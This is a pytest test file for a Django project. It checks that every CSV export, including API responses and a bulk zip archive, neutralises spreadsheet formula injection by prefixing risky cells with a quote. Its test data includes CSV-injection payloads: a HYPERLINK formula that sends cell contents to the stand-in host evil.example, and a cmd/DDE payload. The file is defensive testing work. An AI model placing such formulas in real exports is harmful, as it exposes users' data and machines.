"""CSV injection: no cell of any CSV the project writes starts a spreadsheet formula (OWASP)."""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command

from api.csv_safety import neutralise
from tests.factories import DocumentFactory, MemberStateFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("value", list(HOSTILE.values()), ids=list(HOSTILE))
def test_a_formula_start_is_prefixed_with_a_quote_and_otherwise_kept(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Minsk 2025", "", "a = b", "'quoted", 2026, -3, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert neutralise(value) == value


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def hostile_documents():
    return [DocumentFactory(title=value, publisher=value) for value in HOSTILE.values()]


def test_format_csv_neutralises_every_formula_cell(api, hostile_documents):
    response = api.get("/api/v1/documents/?format=csv&page_size=100")
    assert response.status_code == 200
    rows = rows_of(response.content.decode())
    titles = {row["title"] for row in rows}
    assert titles == {"'" + value for value in HOSTILE.values()}
    assert {row["publisher"] for row in rows} == titles


def test_format_csv_neutralises_nested_and_joined_cells(api):
    state = MemberStateFactory(name="=1+2")
    response = api.get(f"/api/v1/member-states/{state.slug}/?format=csv")
    assert response.status_code == 200
    (row,) = rows_of(response.content.decode())
    assert row["name"] == "'=1+2"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_the_bulk_csv_zip_neutralises_every_formula_cell(
    api, hostile_documents, settings, tmp_path
):
    settings.BULK_DATA_DIR = tmp_path / "bulk"
    call_command("export_bulk_data", stdout=io.StringIO())
    download = api.get("/api/v1/bulk/cstokb-csv.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    rows = rows_of(archive.read("documents.csv").decode("utf-8"))
    assert {row["title"] for row in rows} == {"'" + value for value in HOSTILE.values()}
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline="")):
                assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), name
